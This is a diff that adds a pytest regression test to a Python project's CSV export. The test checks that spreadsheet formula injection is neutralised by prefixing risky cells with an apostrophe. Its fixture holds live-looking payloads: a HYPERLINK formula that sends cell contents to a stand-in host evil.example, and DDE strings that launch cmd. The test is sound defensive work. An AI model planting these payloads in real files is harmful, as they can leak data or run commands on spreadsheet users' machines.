@@ -46,6 +46,7 @@ from kam_bot.domain.matching import fold
 from kam_bot.services.errors import ForbiddenError, InvalidInputError
 from kam_bot.services.ports import UnitOfWork
 from kam_bot.services.transfer import TYPES, export_all, import_file, restore_jsonl
+from kam_bot.services.transfer.export import neutralise
 from kam_bot.store.engine import make_engine, upgrade
 
 SHANGHAI = ZoneInfo("Asia/Shanghai")
@@ -312,3 +313,39 @@ def test_export_is_for_admins_only(tmp_path: Path) -> None:
         export_all(untouched, tmp_path / "export.jsonl", fmt="jsonl", actor=manager)
 
     assert not (tmp_path / "export.jsonl").exists()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(app: App, tmp_path: Path) -> None:
+    populate(app)
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "title": "+1+cmd|' /C calc'!A0",
+        "department": "-2+3",
+        "personal_notes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    with app.uow() as uow:
+        uow.repo.update(m.Contact, 11, **hostile)
+        uow.repo.update(m.Account, 43, industry="\t=1+1")
+        uow.repo.update(m.Account, 42, industry="\r=1+1")
+        uow.commit()
+
+    export_all(app, tmp_path / "out", fmt="csv", actor=OPERATOR)
+
+    contact = next(
+        csv.DictReader(io.StringIO((tmp_path / "out" / "contact.csv").read_bytes().decode("utf-8-sig")))
+    )
+    assert {k: contact[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
+    accounts = list(
+        csv.DictReader(io.StringIO((tmp_path / "out" / "account.csv").read_bytes().decode("utf-8-sig")))
+    )
+    assert [a["industry"] for a in accounts] == ["'\r=1+1", "'\t=1+1"]
+    stock = next(
+        csv.DictReader(
+            io.StringIO((tmp_path / "out" / "inventory_observation.csv").read_bytes().decode("utf-8-sig"))
+        )
+    )
+    assert stock["quantity"] == "12.500"  # numbers stay numbers, a negative one too
+    assert [neutralise(v) for v in ("-4.20", "+86", "-", "==")] == ["-4.20", "+86", "'-", "'=="]
+    # the lossless JSONL keeps the text exactly as typed
+    export_all(app, tmp_path / "all.jsonl", fmt="jsonl", actor=OPERATOR)
+    assert json.dumps(hostile["name"], ensure_ascii=False) in (tmp_path / "all.jsonl").read_text("utf-8")
